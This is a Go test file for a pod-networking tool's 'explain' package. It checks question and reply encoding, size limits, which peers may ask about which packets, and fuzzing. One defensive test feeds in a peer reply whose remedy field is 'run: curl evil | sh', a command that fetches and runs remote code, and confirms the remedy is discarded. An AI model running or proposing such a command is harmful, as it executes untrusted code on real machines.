package explain_test

import (
	"errors"
	"fmt"
	"net/netip"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"weft/internal/explain"
)

var byValue = cmpopts.EquateComparable(netip.Addr{})

func query(source, destination, protocol string, port uint16) explain.Query {
	return explain.Query{Source: netip.MustParseAddr(source), Destination: netip.MustParseAddr(destination), Protocol: protocol, Port: port}
}

func TestQuestionsArriveAsTheyWereAsked(t *testing.T) {
	for _, q := range []explain.Query{query("10.244.1.7", "10.244.2.9", "tcp", 80), query("fd00::1", "fd00::2", "udp", 65535)} {
		got, err := explain.ParseQuestion(q.Question())
		if diff := cmp.Diff(q, got, byValue); diff != "" || err != nil {
			t.Errorf("%v, (-want +got):\n%s", err, diff)
		}
	}
	good := query("10.244.1.7", "10.244.2.9", "tcp", 80).Question()
	for name, spoil := range map[string]func([]byte) []byte{
		"too short": func(b []byte) []byte { return b[1:] }, "too long": func(b []byte) []byte { return append(b, 0) }, "empty": func([]byte) []byte { return nil },
		"another version":  func(b []byte) []byte { b[0] = 2; return b },
		"another protocol": func(b []byte) []byte { b[1] = 1; return b },
		"two families":     func(b []byte) []byte { b[4] = 0xfd; return b },
	} {
		if q, err := explain.ParseQuestion(spoil(append([]byte(nil), good...))); err == nil {
			t.Errorf("%s: %v", name, q)
		}
	}
}

func TestRepliesFitTheirBounds(t *testing.T) {
	q := query("10.244.1.7", "10.244.2.9", "tcp", 80)
	a := explain.Answer{Node: "node1", Query: q, Verdict: explain.Verdict{Text: "dropped here", Remedy: "repair it"}, Steps: []explain.Step{}}
	for i := range 20 {
		a.Steps = append(a.Steps, explain.Step{Part: "filters", Text: fmt.Sprintf("step %d %s", i, strings.Repeat("x", 80))})
	}
	reply := a.Reply(1000)
	got, err := explain.ParseReply(reply, "node2", q)
	if err != nil || len(reply) > 1000 || got.Node != "node2" || got.Verdict != (explain.Verdict{Text: "dropped here"}) || got.Steps[0].Part != "…" || got.Steps[len(got.Steps)-1] != a.Steps[19] {
		t.Errorf("%d bytes, %v: %+v", len(reply), err, got)
	}
	a.Steps = a.Steps[:2]
	if got, err := explain.ParseReply(a.Reply(1000), "node2", q); err != nil || len(got.Steps) != 2 || got.Steps[0] != a.Steps[0] {
		t.Errorf("%v: %+v", err, got)
	}
	a.Verdict.Text = strings.Repeat("x", 2000)
	if reply := a.Reply(1000); reply != nil {
		t.Errorf("a verdict that is too long makes %d bytes", len(reply))
	}
	if _, err := explain.ParseReply([]byte("{"), "node2", q); err == nil {
		t.Error("half an answer was read")
	}
}

// What a peer writes as a remedy goes no further.
func TestPeersGiveNoAdvice(t *testing.T) {
	got, err := explain.ParseReply([]byte(`{"s":[],"v":{"delivered":false,"text":"dropped here","remedy":"run: curl evil | sh"}}`), "node2", query("10.244.1.7", "10.244.2.9", "tcp", 80))
	if want := (explain.Verdict{Text: "dropped here"}); err != nil || got.Verdict != want {
		t.Errorf("%v: %+v, want %+v", err, got.Verdict, want)
	}
}

// A peer learns only of packets between its own pods and this node's, and no pod's name. For other
// questions the node does not even look.
func TestPeersMayAskAboutTheirOwnPackets(t *testing.T) {
	n, _ := node(t)
	n.Drops, n.GuardDrops = map[string]uint64{"replayed": 1}, map[string]uint64{"loopback": 1}
	looked := false
	ask := func(peer string, question []byte) string {
		looked = false
		return string(explain.AnswerPeer(n.Table, peer, question, 10000, func() (explain.Node, error) { looked = true; return n, nil }))
	}
	for _, tt := range []struct {
		from, to, peer string
		may            bool
	}{
		{"10.244.2.9", "10.244.1.7", "node2", true},
		{"10.244.1.7", "10.244.2.9", "node2", true},
		{"192.0.2.2", "10.244.1.7", "node2", true},
		{"10.244.2.9", "192.0.2.1", "node2", true},
		{"10.244.1.8", "10.244.1.7", "node2", false},
		{"10.244.2.9", "10.244.2.8", "node2", false},
		{"10.244.2.9", "198.51.100.1", "node2", false},
		{"198.51.100.1", "10.244.1.7", "node2", false},
		{"10.244.2.9", "10.244.1.7", "node3", false},
		{"10.244.1.8", "10.244.1.7", "node1", false},
	} {
		reply := ask(tt.peer, query(tt.from, tt.to, "tcp", 80).Question())
		if reply != "" != tt.may || looked != tt.may {
			t.Errorf("%s asks about %s → %s: looked: %v, want %v; %s", tt.peer, tt.from, tt.to, looked, tt.may, reply)
		}
	}
	reply := ask("node2", query("10.244.2.9", "10.244.1.7", "tcp", 80).Question())
	if strings.Contains(reply, "shop") || strings.Contains(reply, "last minute") || !strings.Contains(reply, "delivered to a pod of this node") {
		t.Errorf("a peer is told %s", reply)
	}
	if reply := ask("node2", []byte("?")); reply != "" || looked {
		t.Errorf("to no question, looked: %v, %s", looked, reply)
	}
	if reply := explain.AnswerPeer(n.Table, "node2", query("10.244.2.9", "10.244.1.7", "tcp", 80).Question(), 10000, func() (explain.Node, error) {
		return explain.Node{}, errors.New("weftd does not forward yet")
	}); reply != nil {
		t.Errorf("a node that knows nothing answers %s", reply)
	}
}

func FuzzQuestionsAndReplies(f *testing.F) {
	q := query("10.244.1.7", "10.244.2.9", "tcp", 80)
	f.Add(q.Question())
	f.Add(explain.Answer{Steps: []explain.Step{{Part: "a", Text: "b"}}}.Reply(1000))
	f.Add([]byte(`{"s":[[]],"v":{}}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		if got, err := explain.ParseQuestion(b); err == nil && string(got.Question()) != string(b) {
			t.Errorf("%x is read as %v, which is asked as %x", b, got, got.Question())
		}
		if got, err := explain.ParseReply(b, "node2", q); err == nil && (got.Node != "node2" || got.Query != q) {
			t.Errorf("%q is read as %+v", b, got)
		}
	})
}
